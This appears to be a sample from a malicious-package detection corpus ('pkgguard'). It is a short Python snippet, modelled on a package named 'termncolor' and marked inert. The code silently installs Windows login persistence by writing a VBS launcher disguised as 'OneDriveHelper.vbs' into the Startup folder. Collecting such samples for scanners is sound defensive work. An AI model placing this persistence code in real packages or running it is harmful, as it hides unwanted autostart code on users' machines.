# pkgguard corpus 383 (persistence), modelled on [termncolor]; inert, never run.
import os
import sys

startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
pythonw = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
script = 'CreateObject("WScript.Shell").Run """{0}"" -m pkg.tray", 0, False'.format(pythonw)
with open(os.path.join(startup, "OneDriveHelper.vbs"), "w") as f:
    f.write(script)
